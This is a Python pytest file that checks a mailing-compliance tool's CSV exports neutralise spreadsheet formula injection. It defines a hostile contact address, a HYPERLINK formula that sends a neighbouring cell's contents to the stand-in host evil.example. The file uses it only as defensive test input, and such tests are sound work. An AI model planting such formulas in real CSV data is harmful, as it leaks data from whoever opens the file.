"""No CSV cell Postwarden writes starts a formula: the offenders CSV of the dashboard (live
server), ``report compliance -o x.csv``, ``audit --rule R --list``, and the one writer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import Engine

from compliance.csv_files import FORMULA_STARTS, CsvWriter, neutralise_cell
from tests.conftest import postwarden
from tests.security.live import serving

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A3,"x")@x.example'
ROOT = Path(__file__).resolve().parents[2]


def test_cells_that_would_start_a_formula_are_neutralised() -> None:
    assert neutralise_cell("=1+2") == "'=1+2"
    for start in FORMULA_STARTS:
        assert neutralise_cell(f"{start}x") == f"'{start}x"
    assert neutralise_cell("ann@example.org") == "ann@example.org"
    assert neutralise_cell(None) == "" and neutralise_cell(-0.5) == -0.5  # a number, not text
    buffer = io.StringIO()
    CsvWriter(buffer).writerows([["list", "address"], ["=1+2", HOSTILE]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["list", "address"], ["'=1+2", "'" + HOSTILE]]


def test_every_csv_is_written_by_the_one_writer() -> None:
    # csv.writer anywhere else would write cells unneutralised.
    offenders = []
    for folder in ("checks", "compliance", "monitor", "reports", "store", "web"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name != "csv_files.py" and re.search(
                r"csv\.(writer|DictWriter)\(", path.read_text()
            ):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.fixture
def hostile_contacts(tmp_path: Path, world: tuple[Engine, dict[str, str]]) -> str:
    """The world's database with contacts whose address and list name are formulas."""
    url = str(world[0].url)
    contacts = tmp_path / "contacts.csv"
    with contacts.open("w", newline="") as handle:
        writer = csv.writer(handle)  # the attacker's file, written verbatim
        writer.writerow(["email", "status"])
        writer.writerow([HOSTILE, "subscribed"])
        writer.writerow(["-2+3@x.example", "subscribed"])
    imported = postwarden("import", "contacts", str(contacts), "--list", "=1+2", "--db", url)
    assert imported.code == 0, imported.stderr
    return url


def assert_neutral(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 2
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE.lower() in cells and "'=1+2" in cells and "'-2+3@x.example" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_compliance_report_csv_neutralises_formulas(
    hostile_contacts: str, tmp_path: Path
) -> None:
    out = tmp_path / "report.csv"
    made = postwarden("report", "compliance", "-o", str(out), "--unmasked", "--user", "admin",
                      "--db", hostile_contacts)  # fmt: skip
    assert made.code in (0, 1, 2), made.stderr
    assert_neutral(out.read_text())


def test_the_audit_list_neutralises_formulas(hostile_contacts: str) -> None:
    listed = postwarden("audit", "--rule", "consent_missing", "--list", "--db", hostile_contacts)
    assert listed.code == 0, listed.stderr
    assert_neutral(listed.stdout)


def test_the_dashboard_offenders_csv_neutralises_formulas(
    hostile_contacts: str, world: tuple[Engine, dict[str, str]]
) -> None:
    with serving(world[0]) as live:
        officer = live.browser()
        officer.log_in("compliance")
        response = officer.get("/compliance/offenders/consent_missing.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert_neutral(response.text)
